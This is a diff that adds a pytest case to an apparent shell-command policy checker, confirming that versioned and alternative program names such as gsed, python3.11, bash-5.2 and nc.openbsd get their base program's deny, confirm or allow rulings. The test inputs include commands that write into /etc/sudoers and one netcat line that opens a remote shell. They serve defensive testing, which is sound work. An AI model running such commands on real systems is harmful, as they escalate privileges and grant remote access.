@@ -142,3 +142,41 @@ def test_attack_u_socat_options_and_every_netcat(default_policy: Policy, line: s
 def test_attack_u_archivers_write_where_their_options_say(default_policy: Policy, line: str,
                                                           expected: str) -> None:
     assert action(default_policy, line) == expected
+
+
+@pytest.mark.parametrize(("line", "expected"), [
+    # a program under its version, a Debian alternative's name or GNU's `g` prefix is read
+    # with its base program's grammar and tables
+    ("gsed -i s/a/b/ /etc/sudoers", "deny"),
+    ("gsed 'w /etc/sudoers.d/x' /tmp/x", "deny"),
+    ("gcp /tmp/x /etc/sudoers.d/x", "deny"),
+    ("gtouch /etc/sudoers.d/x", "deny"),
+    ("gtee /etc/sudoers.d/x", "deny"),
+    ("gpg2 -o /etc/sudoers.d/x -d /tmp/x.gpg", "deny"),
+    ("ssh2 -E /etc/sudoers.d/x host", "deny"),
+    ("cp5 /tmp/x /etc/sudoers.d/x", "deny"),
+    ("echo id | node18", "deny"),
+    ("echo 'exec id' | wish8.6", "deny"),
+    ("echo 'exec id' | expect5.45", "deny"),
+    ("echo id | python3.11", "deny"),
+    ("echo id | perl5.36", "deny"),
+    ("echo id | ruby3.1", "deny"),
+    ("echo id | php8.2", "deny"),
+    ("echo id | lua5.4", "deny"),
+    ("echo id | bash5", "deny"),
+    ("bash-5.2 -c 'cp /tmp/x /etc/sudoers.d/x'", "deny"),
+    ("vim.basic /etc/sudoers.d/x", "confirm"),
+    ("vim.nox /etc/sudoers", "confirm"),
+    ("red /etc/sudoers.d/x", "confirm"),  # ed's restricted name, in the shipped editor rules
+    ("rvim /etc/sudoers", "confirm"),
+    ("nc.openbsd -e /bin/sh host 80", "deny"),
+    # honest halves
+    ("gsed -n 1p /etc/hosts", "allow"),
+    ("python3.11 script.py", "allow"),
+    ("gawk '{print $1}' /var/log/syslog", "allow"),
+    ("gpg2 --list-keys", "allow"),
+    ("python3-config --cflags", "allow"),
+])
+def test_attack_u_versioned_and_alternative_names_are_their_program(default_policy: Policy, line: str,
+                                                                    expected: str) -> None:
+    assert action(default_policy, line) == expected
